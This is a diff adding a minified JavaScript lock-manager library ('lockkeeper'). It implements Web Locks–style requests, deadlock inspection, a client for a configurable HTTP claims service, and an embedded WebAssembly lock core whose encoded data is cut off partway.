@@ -1,2 +1,4403 @@
 /* lockkeeper 0.2.0, MIT */
-var e=Object.create,t=Object.defineProperty,r=Object.getOwnPropertyDescriptor,n=Object.getOwnPropertyNames,o=Object.getPrototypeOf,a=Object.prototype.hasOwnProperty,s=(e,r)=>{for(var n in r)t(e,n,{get:r[n],enumerable:!0})},l=(e,o,s,l)=>{if(o&&"object"==typeof o||"function"==typeof o)for(let i of n(o))!a.call(e,i)&&i!==s&&t(e,i,{get:()=>o[i],enumerable:!(l=r(o,i))||l.enumerable});return e},i=(r,n,a)=>(a=null!=r?e(o(r)):{},l(!n&&r&&r.__esModule?a:t(a,"default",{value:r,enumerable:!0}),r)),c={};s(c,{Lock:()=>R,LockManager:()=>_,createLockManager:()=>sn,inspect:()=>ln,install:()=>rn,internal:()=>on,locks:()=>tn}),module.exports=(e=>l(t({},"__esModule",{value:!0}),e))(c);var d,u,f,p,h=(e,t)=>{let r=new Map,n=new Map;for(let{client:o,mode:a,names:s}of[...e,...t]){let e=n.get(o)||new Set;n.set(o,e);for(let t of s){let n=r.get(t)||{all:new Set,exclusive:new Set};r.set(t,n),("shared"===a?n.exclusive:n.all).forEach(t=>e.add(t)),n.all.add(o),"exclusive"===a&&n.exclusive.add(o)}}return n},m=e=>{let t=t=>{let r=new Set,n=[t];for(let t=n.pop();void 0!==t;t=n.pop())for(let o of e.get(t)||[])r.has(o)||n.push(o),r.add(o);return r},r=[...e.keys()],n=new Map(r.map(e=>[e,t(e)])),o=(e,t)=>n.get(e).has(t);return r.map(e=>r.filter(t=>e===t||o(e,t)&&o(t,e))).filter((e,t)=>e.length>1&&e[0]===r[t])},g=(e,t)=>{let r=({client:e,mode:t},r)=>JSON.stringify([e,t,r]),n=new Set;for(let t of e)for(let e of t.names)n.add(r(t,e));return[...new Set(t.filter(e=>e.names.some(t=>n.has(r({...e,mode:"exclusive"},t))||"exclusive"===e.mode&&n.has(r({...e,mode:"shared"},t)))).map(({client:e})=>e))]},w=({client:e,leader:t,count:r,state:n},o)=>{let a=(e,t)=>t.filter(t=>t.client===e),s=({client:e,number:t,names:r,mode:n})=>({names:r,mode:n,since:o(e,t)});return{client:e,leader:t,entries:r,members:n.members.map(e=>({client:e.client,held:a(e.client,n.held).map(e=>({...s(e),fence:e.fence})),pending:a(e.client,n.pending).map(s)})),deadlocks:m(h(n.held,n.pending)),waitsForItself:g(n.held,n.pending)}},b=e=>{if("function"==typeof e)return"a function";if("object"==typeof e&&null!==e)return Array.isArray(e)?"an array":"an object";let t="string"==typeof e?JSON.stringify(e):String(e);return t.length>60?`${t.slice(0,60)}\u2026`:t},y=e=>`Illegal invocation: this is not a ${e}. Call a method as object.method(), or bind it to its object.`,v=e=>`lock on ${e.map(b).join(", ")}`,M=(e,t,r)=>{if("expired"===e){let e=v(t);return["TimeoutError",r?`The lease of the ${e} is over.`:`The ${e} was not granted within the timeout.`]}return"closed"===e?["AbortError",`The request for the ${v(t)} has ended: its lock manager was closed.`]:"lost"===e?["AbortError",`The ${v(t)} was lost: this context has left the lock manager, as a page does on its way into the back-forward cache, or the others took it for dead.`]:["AbortError",`The ${v(t)} was lost: stolen, or broken by forceRelease().`]},k=e=>({global:e,document:e.document,DOMException:e.DOMException,opaque:"null"===e.origin&&"file:"!==e.location.protocol}),I=({DOMException:e},t,r)=>new e(r,t),$=e=>{if(!(({document:e})=>{if(!e)return!0;try{return e.defaultView.document===e}catch{return!1}})(e))throw I(e,"InvalidStateError","This document is not active: its frame was removed, or its window shows another document.");if(e.opaque)throw I(e,"SecurityError","This origin is opaque, so it has no storage and no locks. A sandboxed frame needs allow-same-origin.")},S=e=>`${e}`,E=(e="exclusive")=>{let t=S(e);if("exclusive"!==t&&"shared"!==t)throw new TypeError((e=>`The lock mode must be 'exclusive' or 'shared', not ${b(e)}.`)(t));return t},O=(e,t)=>{if(void 0===t)return;let{AbortSignal:r}=e,n=r&&Object.getOwnPropertyDescriptor(r.prototype,"aborted");try{let e=t;if("boolean"==typeof(n?n.get.call(e):e.aborted))return e}catch{}throw new TypeError((e=>`The option signal must be an AbortSignal, not ${b(e)}.`)(t))},P=e=>{if("function"!=typeof e)throw new TypeError((e=>`The callback must be a function, not ${b(e)}.`)(e));return e},q=(e,t)=>{let r=(e=>{if(null==e)return Object.create(null);if(Object(e)!==e)throw new TypeError((e=>`The options must be an object, not ${b(e)}.`)(e));return e})(t);return{ifAvailable:!!r.ifAvailable,mode:E(r.mode),signal:O(e,r.signal),steal:!!r.steal}},x=function(e){return d=this,Object.getPrototypeOf(e)},A=(e,t)=>{let r={Interface:e,state:t,proxy:void 0,getPrototypeOf:x};return r.proxy=new Proxy(Object.create(e.prototype),r)},j=(e,t)=>{d=void 0;let r=Object.getPrototypeOf(Object(t))&&d;if(!r||r.proxy!==t||r.Interface!==e)throw new TypeError(y(e.name));return r.state},T=(e,t)=>Object.defineProperties(e,Object.getOwnPropertyDescriptors(t)),D=Symbol.for("nodejs.util.inspect.custom"),N=["name","scope","mode","fence"],L=function(e,t,r){let n=this[Symbol.toStringTag];try{return`${n} ${r(Object.fromEntries(N.filter(e=>e in this).map(e=>[e,this[e]])),t)}`}catch{return`${n} {}`}},C=(e,t)=>{let r=class{constructor(){throw new TypeError((e=>`Illegal constructor: a ${e} cannot be made by new.`)(e))}},n={value:e,configurable:!0};return Object.defineProperty(r,"name",n),Object.defineProperty(T(r.prototype,t),Symbol.toStringTag,n),Object.defineProperty(r.prototype,D,{value:L,configurable:!0}),r},R=C("Lock",{get name(){return j(R,this).name},get mode(){return j(R,this).mode}}),W=(e,{names:[t],mode:r})=>A(R,{name:t,mode:r}),F=e=>{let t=[];for(let{client:r,mode:n,names:o}of e)for(let e of o)t.push({clientId:r,mode:n,name:e});return t},z=({held:e,pending:t})=>({held:F(e),pending:F(t)}),U=new WeakMap,B=(e,t)=>{let{reason:r}=t;return void 0===r?I(e,"AbortError","The signal has aborted the request."):r},J=(e,t)=>new Promise(r=>r(e(t))),V=(e,t)=>{try{return t(j(_,e))}catch(e){return Promise.reject(e)}},_=C("LockManager",{request(e,t){return V(this,({environment:e,openLog:t})=>{let{name:r,options:n,callback:o}=((e,t)=>{if(t.length<2)throw new TypeError(((e,t,r)=>`request() needs a name and a callback. It was called with ${1===r?"1 argument":`${r} arguments`}.`)(0,0,t.length));let[r,n,o]=t.length>2?t:[t[0],void 0,t[1]];return{name:S(r),options:q(e,n),callback:P(o)}})(e.global,arguments);$(e);let a=t();((e,t,r)=>{let{signal:n}=r,o="-"===t[0]?(e=>`The name ${b(e)} is reserved: the name of a lock must not begin with a hyphen.`)(t):(({ifAvailable:e,mode:t,signal:r,steal:n})=>{let o="shared"===t;if(!(n&&(e||o)||r&&(n||e)))return"";let[a,s]=n?["steal",e?"ifAvailable":o?"mode 'shared'":"signal"]:["signal","ifAvailable"];return`LockOptions.${a} cannot be combined with ${s}.`})(r);if(o)throw I(e,"NotSupportedError",o);if(n&&n.aborted)throw B(e,n)})(e,r,n);let{ifAvailable:s,mode:l,signal:i,steal:c}=n;return((e,t,r,n,o,a)=>{let s,l=s,i=!1,c=!1,d=new Promise((e,t)=>{s=e,l=t}),u=t.request(r,(d,h,m)=>{if("granted"===d&&n&&n.aborted)f();else if(p(),"granted"===d){i=!0;let e=e=>r=>{c||t.drop(u),e(r)};J(a,o(h,r)).then(e(s),e(l))}else"unavailable"===d?s(J(a,null)):(c=!0,l(m||I(e,...M(d,r.names,i))))}),f=()=>{p(),t.drop(u),l(B(e,n))},p=n?((e,t)=>{let r=U.get(e)||[new Set,()=>{e.aborted&&r[0].forEach(e=>e())}],[n,o]=r;return n.size||(U.set(e,r),e.addEventListener("abort",o)),n.add(t),()=>{n.delete(t),n.size||e.removeEventListener("abort",o)}})(n,f):()=>{};return d})(e,a,{names:[r],mode:l,ifAvailable:s,steal:c},i,W,o)})},query(){return V(this,({environment:e,openLog:t})=>($(e),t().query().then(z)))}}),H=(e,t)=>A(_,{environment:k(e),openLog:t}),K=e=>{throw new TypeError(e)},X=e=>{void 0===e||"boolean"==typeof e||"function"==typeof e||K(`The option debug must be true, false or a function that is given each line, not ${b(e)}.`)},Z=e=>e.length>20?e.slice(0,8):e,G=({mode:e,names:t})=>`${e} ${t.map(b).join(" + ")}`,Y=e=>{let{ifAvailable:t,steal:r,wait:n,hold:o}=e,a=[t&&"ifAvailable",r&&"steal",void 0!==n&&`timeout ${n} ms`,void 0!==o&&`lease ${o} ms`].filter(Boolean);return G(e)+(a.length?` (${a.join(", ")})`:"")},Q=(e,t)=>{let r;return()=>{if(r)return r;let n=t.choosePrinter();return r=n?((e,t,{label:r,now:n,observation:o,hasLeader:a})=>{let s=new Set,l=0,i="",c=o=>t(`lockkeeper${r&&`[${r}]`} ${new Date(n()).toISOString().slice(11,23)} ${Z(e.clientId())||"(new)"} ${o}`),d=t=>t===e.clientId()?"this context":Z(t),u=({since:e})=>`${Math.max(0,Math.round(n()-e))} ms`,f=e=>[...s].find(({request:t})=>!t||t.number===e),p=()=>{if(!o)return"";let{members:e}=o.state(),t=e.length&&a?e[0].client:"",r=t&&t!==i?`; the leader is ${d(t)}`:"";return i=t,`${e.length} ${1===e.length?"member":"members"}${r}`};o&&o.listen((t,r=[])=>{if(!t)return void(o&&o.state().members.length&&c(`has the state: ${p()}`));let{type:n}=t;if("tick"!==n){"join"===n?c(`${d(t.client)} joined: ${p()}`):"gone"===n&&c(`${d(t.client)} is gone: it ended or left; ${p()}`);for(let{type:o,client:a,number:s}of r){let r="broken"===o&&a===e.clientId()&&f(s);r&&(r.thief=`${"request"===n?"stolen":"broken by forceRelease()"} by ${d(t.client)}`)}"request"!==n||t.client!==e.clientId()||r.some(({client:e,number:r})=>e===t.client&&r===t.number)||(e=>{let t=f(e.number);if(!t||!o)return;let r=(({held:e,pending:t},{client:r,number:n,mode:o,names:a})=>{let s=t.findIndex(e=>e.client===r&&e.number===n);return[...e,...t.slice(0,Math.max(0,s))].filter(e=>("exclusive"===o||"exclusive"===e.mode)&&e.names.some(e=>a.includes(e)))})(o.state(),e),n=r.slice(0,3).map(e=>`${d(e.client)} ${e.fence?"holds":"waits for"} ${G(e)}`),a=r.length>3?` and ${r.length-3} more`:"";c(`${t.title}: blocked, ${n.join(", ")}${a}`)})(t)}});let h=(e,t)=>(t.catch(t=>c(`${e}() failed: ${t}`)),t);return{...e,request(t,r){let o={title:`#${++l} ${Y(t)}`,request:void 0,since:n(),held:!1,thief:""};s.add(o),c(`${o.title}: requested`);try{o.request=e.request(t,(e,t,a)=>{((e,t,r,o)=>{let{title:a,held:l,thief:i}=e,d=`after ${u(e)}`;if("granted"===t)return c(`${a}: granted ${d}${r?`; fence ${r}`:""}`),e.held=!0,void(e.since=n());s.delete(e),c("unavailable"===t?`${a}: not available`:"expired"===t?`${a}: ${l?`lost ${d}, its lease is over`:`timed out ${d}`}`:`${a}: lost ${d}, ${i||o&&o.message||("broken"===t?"stolen, or broken by forceRelease()":"this context has left, or the others took it for dead")}`)})(o,e,t,a),r(e,t,a)})}catch(e){throw s.delete(o),c(`${o.title}: failed, ${e}`),e}return o.request},drop(t){for(let e of s)e.request===t&&(s.delete(e),c(`${e.title}: ${e.held?"released":"aborted"} after ${u(e)}`));e.drop(t)},query:()=>h("query",e.query()),inspect:()=>h("inspect",e.inspect()),forceRelease:t=>(c(`forceRelease ${t.map(b).join(" + ")}`),h("forceRelease",e.forceRelease(t))),leave(){c("leaves"),e.leave()}}})(e(),n,t):e(),r}},ee=(e,t)=>V(e,({own:e})=>{if(!e)throw new TypeError(y("LockManager of createLockManager()"));return t(e)}),te=()=>T(Object.create(_.prototype),{inspect(){return ee(this,e=>e.inspect())},close(){return ee(this,e=>e.close())},...Symbol.asyncDispose?{[Symbol.asyncDispose](){return ee(this,e=>e.close())}}:{}}),re=(e,t)=>(u=u||te(),j(_,e).own=t,Object.setPrototypeOf(e,u)),ne=(e,t)=>{for(let[r,n]of Object.entries(t||{}))try{(new e.Headers).append(r,n)}catch{throw new Error(`The option headers: ${JSON.stringify(r)} or its value has characters that no header can have.`)}},oe=({user_data:e},t)=>e&&e.clientId||t,ae=e=>[...e.crypto.getRandomValues(new Uint32Array(4))].map(e=>e.toString(16).padStart(8,"0")).join(""),se="expired",le=(e,t)=>Object.defineProperties(e,Object.fromEntries(Object.entries(t).map(([e,t])=>[e,{value:t,configurable:!0,writable:"function"==typeof t}]))),ie=(e,t,r)=>{(({url:e,ttl:t,headers:r,patience:n,debug:o},a)=>{X(o);let s=e=>{throw new TypeError(e)};try{if(!/^https?:$/.test(new a.URL(String(e)).protocol))throw e}catch{s(`The option url must be the http or https address of a claims service; ${String(e)} is none.`)}void 0!==t&&!(t>0&&t<=1e9)&&s(`The option ttl must be a number of seconds above 0; ${String(t)} is none.`),void 0!==n&&!(n>=0)&&s(`The option patience must be a number of seconds, or Infinity; ${String(n)} is none.`),void 0!==r&&"function"!=typeof r&&Object(r)!==r&&s("The option headers must be an object of headers, or a function that gives one.");try{"object"==typeof r&&ne(a,r)}catch(e){s(e.message)}})(t,e);let n,{log:o,open:a,stop:s}=((e,t)=>{let r=void 0===t.clientId?ae(e):String(t.clientId),n=((e,{url:t,ttl:r=30,headers:n={},patience:o=60},a)=>{let s=String(t),l=new e.URL("v1/",s.endsWith("/")?s:`${s}/`),i=!1,c=!1,d=new Set,u=(e,t)=>c||e&&e.aborted?(t(),()=>{}):(d.add(t),e&&e.addEventListener("abort",t),()=>{d.delete(t),e&&e.removeEventListener("abort",t)}),f=(t,r)=>new Promise(n=>{let o=()=>{},a=()=>{e.clearTimeout(s),o(),n()},s=e.setTimeout(a,t);o=u(r,a)}),p=async(t,{body:r,headers:o,signal:a,...s})=>{let i="function"==typeof n?await n():n;ne(e,i);let c=e.performance.now(),d=new e.AbortController,f=u(a,()=>d.abort());try{let n=await e.fetch(new e.URL(t,l),{...s,signal:d.signal,headers:{...i,...r&&{"content-type":"application/json"},...o},body:r&&JSON.stringify(r)});return{status:n.status,text:await n.text(),asked:c}}finally{f()}},h=async(t,n,a=()=>!0)=>{let l=e.performance.now(),d=()=>c||n.signal&&n.signal.aborted;for(;;){let c;try{let{status:e,text:r,asked:o}=await p(t,n);if(e<500)return i=!1,{status:e,body:m(e,r),asked:o};c=`it answers ${e}`}catch(e){let t=e;if(d()||"TypeError"!==t.name)throw e;c=t.cause&&t.cause.message||t.message}let u=a()?o:Math.min(o,r);if(e.performance.now()+500>l+1e3*u)throw new e.DOMException(`The claims service at ${s} could not be reached for ${u} s: ${c}.`,"NetworkError");if(i||e.console.warn(`lockkeeper: the claims service at ${s} cannot be reached (${c}); it is asked again.`),i=!0,await f(500,n.signal),d())throw new e.DOMException("Nobody waits for the answer any more.","AbortError")}},m=(e,t)=>{if(""!==t)try{return JSON.parse(t)}catch{throw new Error(`${s} is no claims service: it answered ${e} with ${JSON.stringify(t.slice(0,80))}.`)}},g=e=>{let[,t]=/\/v1\/\w+\/(\d+)\/$/.exec(e&&e.url)||[];if(!t)throw new Error(`${s} is no claims service: it answered ${JSON.stringify(e)}.`);return t},w=e=>({...e,id:g(e)}),b=({status:e,body:t})=>new Error(`The claims service at ${s} answered ${e}: ${JSON.stringify(t)}`);return{ttl:r,pause:f,stop(){c=!0;for(let e of d)e()},async begin(e){let t=await h("sessions/",{method:"POST",body:{ttl:r}},e);if(201!==t.status)throw b(t);return{id:g(t.body),asked:t.asked}},async renew(e,t){let{status:n,body:o,asked:a}=await h(`sessions/${e}/`,{method:"PATCH",body:{ttl:r},signal:t});return{status:n,asked:a,active:new Set((200===n?o.active:[]).map(e=>g({url:e})))}},async make(t,r,n,o){let s=await h("claims/",{method:"POST",body:{resource:t,session:n,mode:r,user_data:{clientId:a}},headers:{"idempotency-key":ae(e)}},o);if(400!==s.status||!s.body.session){if(201!==s.status&&202!==s.status)throw b(s);return w(s.body)}},async whenNotWaiting(e,t){for(;;){let r=await h(`claims/${e}/?wait=25&while=waiting`,{signal:t});if(200!==r.status)throw b(r);let n=w(r.body);if("waiting"!==n.status)return n}},finish:(e,t)=>h(`claims/${e}/`,{method:"PATCH",body:{status:t}},()=>!1),async revoke(t){let r=await h(`claims/${t}/`,{method:"PATCH",body:{status:"revoked"}});if(204!==r.status&&(400!==r.status||"active"===(await h(`claims/${t}/`,{})).body.status))throw 403===r.status?new e.DOMException(`The claims service at ${s} does not let you revoke this claim.`,"NotAllowedError"):b(r)},async list(e){let t=[];for(let r=0;;r+=1e3){let n=await h(`claims/?status=${e}&limit=1000&offset=${r}`,{});if(200!==n.status||!Array.isArray(n.body))throw b(n);for(let e of n.body)t.push(w(e));if(n.body.length<1e3)return t}}}})(e,t,r),o=((e,t)=>{let r,n,o=1e3*t.ttl,a=()=>e.performance.now(),s=0,l=(e,t)=>{e.over=t,r===e&&(r=void 0);for(let r of e.held.values())r(t)},i=async r=>{let n=[...r.held],s=new e.AbortController,i=e.setTimeout(()=>s.abort(),r.end-a()-o/10);try{let{status:e,active:a,asked:i}=await t.renew(r.id,s.signal);if(200!==e)return l(r,`its session has ended (${e})`);r.end=i+o;for(let[e,t]of n)a.has(e)||t("the claim has ended")}catch(e){l(r,s.signal.aborted?"the service cannot be reached":String(e))}finally{e.clearTimeout(i)}};return{end:l,async enter(l){r&&0===r.users&&r.end-a()<o/3&&(r=void 0);let c=r;if(!c){n=n||(async()=>{let{id:e,asked:n}=await t.begin(()=>s>0);return r={id:e,end:n+o,users:0,over:void 0,held:new Map,rest:void 0},r})().finally(()=>{n=void 0}),s++;let e=()=>{s--};l.addEventListener("abort",e);try{c=await n}finally{l.removeEventListener("abort",e),l.aborted||e()}}return c.users+=1,c.rest||(async r=>{for(;r.users>0&&!r.over;)r.rest=new e.AbortController,await t.pause(Math.max(0,r.end-a()-2*o/3),r.rest.signal),r.users>0&&await i(r);r.rest=void 0})(c),c},leave(e){e.users-=1,0===e.users&&e.rest&&e.rest.abort()},hold:(e,t,r)=>new Promise(n=>{let o=o=>{e.held.delete(t),r.removeEventListener("abort",a),n(o)},a=()=>o(void 0);e.held.set(t,o),r.addEventListener("abort",a),r.aborted&&a()})}})(e,n),a=new Set,s=(t,r)=>new e.DOMException(t,r),l=()=>e.performance.now(),i=(t,r,n)=>{let o=t<1/0?e.setTimeout(n,Math.max(0,t-l())):void 0;return r.addEventListener("abort",n),()=>{void 0!==o&&e.clearTimeout(o),r.removeEventListener("abort",n)}},c=async({end:{signal:t},loss:r},a,{names:c,mode:d,ifAvailable:u,hold:f=1/0},p,h)=>{if(t.aborted)return!0;let m=await n.make(1===c.length?c[0]:c,d,a.id,()=>!t.aborted);if(!m)return o.end(a,"its session has ended"),!1;let{id:g}=m,w=e=>n.finish(g,e);if("waiting"===m.status&&u&&!t.aborted)return await w("withdrawn"),h("unavailable",0),!0;try{if("waiting"===m.status&&!t.aborted&&(m=await(async(t,r,o)=>{let a=new e.AbortController,s=i(r,o,()=>a.abort());try{return r>l()?await n.whenNotWaiting(t.id,a.signal):t}catch(e){if(a.signal.aborted)return t;throw e}finally{s()}})(m,p,t)),t.aborted)throw t;if("waiting"===m.status)return await w("aborted"),h(se,0),!0;if(a.over||"expired"===m.status)return w("aborted").catch(()=>{}),!1;if("active"!==m.status)throw s(`The lock was not granted: the claim is ${m.status}.`,"AbortError")}catch(e){let r=w("aborted").catch(()=>{});if(!t.aborted)throw e;return await r,!0}let b=new e.AbortController,y=i(l()+f,t,()=>b.abort()),v=o.hold(a,g,b.signal);h("granted",m.fence);let k=await v;if(y(),void 0!==k)throw s(`The lock was lost: ${k}.`,"AbortError");if(!t.aborted){let[e,t]=M(se,c,!0);r.abort(s(t,e)),h(se,0)}return await w("released"),!0};return{log:{clientId:()=>r,join(){},request(t,r){if(t.steal)throw s("A claim cannot be stolen. Someone who may revoke claims can end it at the service.","NotSupportedError");let n={loss:new e.AbortController,end:new e.AbortController,released:Promise.resolve(),lose(e){n.end.signal.aborted||(n.end.abort(),n.loss.abort(e),r("lost",0,e))}};return a.add(n),n.released=Promise.resolve().then(()=>(async(e,t,r)=>{let{signal:n}=e.end,a=l()+(void 0===t.wait?1/0:t.wait);for(;!n.aborted;){let s=await o.enter(n);try{if(await c(e,s,t,a,r))return}finally{o.leave(s)}}})(n,t,r)).catch(n.lose).finally(()=>a.delete(n)),n},drop:e=>e.end.abort(),rest({released:t}){let r=new e.AbortController;return Promise.race([t.finally(()=>r.abort()),n.pause(1e3,r.signal)])},async query(){let e=async e=>(await n.list(e)).map(e=>({client:oe(e,""),mode:e.mode,names:[e.resource].flat()}));return{held:await e("active"),pending:await e("waiting")}},async forceRelease(e){for(let{id:t,resource:r}of await n.list("active"))e.some(e=>[r].flat().includes(e))&&await n.revoke(t)},async inspect(){let e=async e=>(await n.list(e)).map(e=>({client:oe(e,`claim ${e.id}`),number:Number(e.id),mode:e.mode,names:[e.resource].flat(),fence:e.fence||0,since:Date.parse(e.status_history[e.status_history.length-1].timestamp)})),[t,o]=[await e("active"),await e("waiting")],a=new Set([...t,...o].sort((e,t)=>e.number-t.number).map(({client:e})=>e));return{client:r,leader:"",log:"",count:0,alone:!1,state:{members:[...a].map(e=>({client:e})),held:t,pending:o}}},leave(){for(let e of a)e.lose(s("The manager was closed.","AbortError"))}},open:a,stop:n.stop}})(e,t),l=Q(()=>o,{label:String(t.url),now:()=>Date.now(),choosePrinter:r}),i=!1,c=()=>{if(i)throw new e.DOMException("This lock manager is closed.","InvalidStateError");return l()},d=re(H(e,()=>{let e=c();return{...e,request(t,r){let o=e.request(t,(e,t,a)=>{n={request:o,fence:t},r(e,t,a)});return n={request:o,fence:0},o}}}),{inspect:async()=>{let e=await c().inspect(),{held:t,pending:r}=e.state,n=new Map([...t,...r].map(e=>[e.number,e.since]));return w(e,(e,t)=>n.get(t))},close:()=>(i=!0,o.leave(),Promise.all([...a].map(o.rest)).then(s))});return le(d,{request(e,t){let r=[...arguments],a=r.length>2?2:1,s=r[a];"function"==typeof s&&(r[a]=e=>{let{request:t,fence:r}=n;return s(e&&le(e,{fence:r,signal:t.loss.signal}))}),n=void 0;let l=_.prototype.request.apply(this,r),i=n;return i?l.finally(()=>o.rest(i.request)):l}}),{manager:d,openLog:c}},ce=require("node:fs"),de=i(require("node:process")),ue=["","request","drop","force-release","join","gone","tick"],fe=["exclusive","shared"],pe=["","granted","unavailable","broken","removed","expired","joined"],he={0:"ok",1:"stale",2:"refused",3:"no-fence","-1":"out-of-memory","-2":"invalid","-3":"unknown-client","-4":"duplicate","-5":"gap","-6":"bad-snapshot","-7":"no-handle"},me=-1,ge=class extends Error{constructor(e){super(`lock core: ${he[e]}`),this.status=e,this.name="CoreError",this.code=he[e]}},we=0,be=(e,t)=>{(!f||f.buffer!==e)&&(f=new DataView(e)),we=t},ye=()=>f.getUint32((we+=4)-4,!0),ve=()=>f.getFloat64((we+=8)-8,!0),Me=()=>{let e="";for(let t=ye();t;t--)e+=String.fromCharCode(f.getUint16((we+=2)-2,!0));return e},ke=(e,t)=>{let r=[];for(;e-- >0;)r.push(t());return r},Ie=(e,t)=>({number:ve(),fence:ve(),deadline:ve(),hold:ve(),client:e.get(ye()),mode:fe[ye()],limit:ye(),names:ke(ye(),t)}),$e=e=>{f.setUint32((we+=4)-4,e.length,!0);for(let t=0;t<e.length;t++)f.setUint16((we+=2)-2,e.charCodeAt(t),!0)},Se=e=>{be(e.buffer,e.byteOffset+4);let t=ye(),r=ve(),n=ve(),o=ye(),a=ye(),s=ye(),l=ye(),i=new Map,c=ke(t,()=>{let e=ve(),t=ye(),r=Me();return i.set(t,r),{client:r,handle:t,last:e}}),d=ke(a,Me),u=()=>Ie(i,()=>d[ye()]);return{members:c,held:ke(s,u),pending:ke(l,u),time:r,fence:n,lastHandle:o}},Ee=2**31,Oe=e=>{if(e<0)throw new ge(e);return e},Pe=e=>"number"==typeof e?e:NaN,qe=({fence:e}={})=>((e,t=0,r=Math.random()*2**32)=>{let n,o,a=0,s=()=>{n=new Map,o=new Map},l=(e,t)=>{n.set(e,t),o.set(t,e)},i=t=>be(e.memory.buffer,t),c=t=>Oe(t<Ee?e.scratch(t):me),d=()=>{let t=Oe(e.snapshot());return new Uint8Array(e.memory.buffer,e.scratch(0),t).slice()},u=t=>{Oe(e.reset(t,r)),a++,s()},f=t=>{let r=Oe((({type:t,client:r,number:o,request:s,mode:l,limit:d=0,ifAvailable:u,steal:f,wait:p=1/0,hold:h=1/0,names:m,now:g})=>{a++;let w=(e=>Array.isArray(e)&&e.every(e=>"string"==typeof e)?e:[])("join"===t?[r]:m),b=(e=>{let t=0;for(let r of e)t+=r.length+2;t&&i(c(2*t));for(let t of e)$e(t);return t})(w),y="number"==typeof d&&d>>>0===d?d:-1;return e.apply(ue.indexOf(t),n.get(r)||0,Pe(o),Pe(s),Pe(p),Pe(h),Pe(g),y<0?-1:fe.indexOf(l),y,(u?1:0)|(f?2:0),w.length,b)})(t));if(r>1)throw new ge(r);let s=e.eventCount(),d=[];s&&i(e.events());for(let e=s;e;e--){let e=pe[ye()],r=ye();"join"===t.type&&l(t.client,r),d.push({type:e,client:o.get(r),number:ve(),fence:ve()})}return"gone"===t.type&&(o.delete(n.get(t.client)),n.delete(t.client)),d};return u(t),{apply:f,foresee(t){if(e.fork()<0)return[];let[r,a]=[new Map(n),new Map(o)];try{return[].concat(...t.map(f))}catch{return[]}finally{e.rejoin(),n=r,o=a}},raise:t=>{Oe(e.raise(t))},reset:u,snapshot:d,restore:t=>{let r=c(t.length+1);new Uint8Array(e.memory.buffer,r).set(t),Oe(e.restore(t.length)),a++,s();for(let{client:e,handle:r}of Se(t).members)l(e,r)},requests:function*(){let t=new Map,r=a;for(let n=0;n=e.nextRequest(n);){let s=0,l=()=>{let r=e.requestName(n,s++);return t.has(r)||(i(r),t.set(r,Me())),t.get(r)};if(i(n+64),yield Ie(o,l),a!==r)throw new Error("The state was changed before the iteration over it had ended.")}},state:()=>Se(d()),hash:e.hash,time:e.time,nextDeadline:e.nextDeadline,requestCount:e.requestCount,last:t=>e.last(n.get(t)||0)}})((p=p||new WebAssembly.Module(new Uint8Array("t@}@k@0)ttt)@=)T@{)@I)@I@{(@I@I)@I@{(@I@It@{.@I@I@I)@I@{)@It@{.@I@I@It@{t)@I@{(@I@?)@I@{)@?)@I@{(@?@I)@I@{t)@?@{.@I@I@?t@{)@I)@?@{d@I@I@I@?@?t@{n@I@I@I@I)@I@{n@I@I@?@?)@I@{n@I@I@?@?t@{d@I@I@I@I@It@{n@I@I@I@?)@I@{.@I@I@?)@I@{{@I@I@?@I@I@?@I)@I@{tt@{s@I@I@?@?@?@?@?@I@I@I@I@I)@I.@p@dn{t}t(n(n)d}ttd.)(((n)n.))t).t)dc.dg))))ty.{ptt.(t)|,{).(tM)(rPDr((0.(((nnttgsd>p>>s})t-ptpp2gdp)))@3@3(p{)@I)=@3er{~n)Pp@0@s@0@2@4@e(td@4@s@k@s@mt@n{@k@>@4@}@m@>@|t1d@}@T@T@D@et@.>@s@<@s@-@mN@2@+@-@mt@(p@s@<@s@-@m@kt@)}@k@-@}@T@k@|@2@mtw{@4@s@k@m@2@4@st@tn@c@2@4@PtRp@4@s@M@2@,@-t5r@-@s@U@mY@s@h@+@s@k@mt9r@4@s@h@+@s@k@mF@}@0@st_d@4@}@,@k@st%n@D@}@k@mt^n@m@,@0@stYs@-@s@U@mf@s@}@r@D@,@-@stQs@4@s@h@+@s@k@mN@2@+@-@mtCn@|@}@k@|tq>~]a@d,tetet&(tetet&(nrK))@Je)~ri(@Fet@k=@R~=~ ~A@e@Dite(Le@Z@F@ket=|@<@k=~:@6@9@9@U@Dit=c@<et@kr>teto(net!rIt=tet@Net@}etftttttttt@c:etf~x~x~x~x~x~xAN@s:@4mrctetott=)@m=n@MrHtete),$=(@m=@3e@Mi)o(t&(te)et&(trl))@Ieto(ti)eto(n&(neto(ne)&(tet,tr#))@Ieto(tl(e)et&(ne)e(&(teto(te)&(nete)&(tr@L.)r@Iet=@W)@Ml>.ae>,(:naeto(@6)i),pe)=w@Pi(=h@Ml}e(1t]na(ae},(:cte(=tEt]e(=u@Mln=)lp=)l).ae)=)@hnaeno(nl.=tl{.ae.enOnae.epen,#igepen,#ldegl).ae)e.!e)ed!@4:nae) .se. .s@>nae)o(nlre),pe.e),{erl)de.o(nl.rs)rre{=)eneg!ml{edl.s)rre{=)@hl)ep=)@mlps)rr.aen,(c)e(o(oi),pete)=+@P,bstrtrre(=,@Mld.a(ae(o(ei)ed!cte(1t]cte(e)o(}i.,K:cte(e)o(n&(ee(e(o(v=)@M&(ve)=)Et,e.e.o(v=0@D@M=~Vt@Me)Oc)ete.,bs)rred,(:c)e},(:c)et=~Ht@Me(,De(e(o(},n=a@P,ds)rrr te)o(}eto(}=@R~=~ ~A@e@D@kit=|@<et@k=~:@6@9@9@U@Dit=c@<et@krC))@Ieto(tl.(aet1t}nae.eto(n@Me)e(,W:c)et=)Etgde.:c)e.eto(n@Me)e(,Tkrreteto(ne(@M&(nrhtetftttttt~V@I@gn@Iet,.d=)rr@v)).@Iet,$it=Hxna(aet=(@m=@3e@Mi(o(ti)nae(e)o(t&(ts)r(@I=)et@mitAti)=,@m=@Alo(t=@Ol@Mi(@Pi.Snaete.@P=,@<=)@Mi.e)=.@<@M,o:na=te.,o:c(krr=@Al=@Alo(tet@M&(te(r|rre)r&)(@Iet=n,Hi)n@Ie)otti(eto(n=)@<xn@Ie)=tete(=)@m,Hmd=trd=trr@F)).@Iete(e)o(@{e) 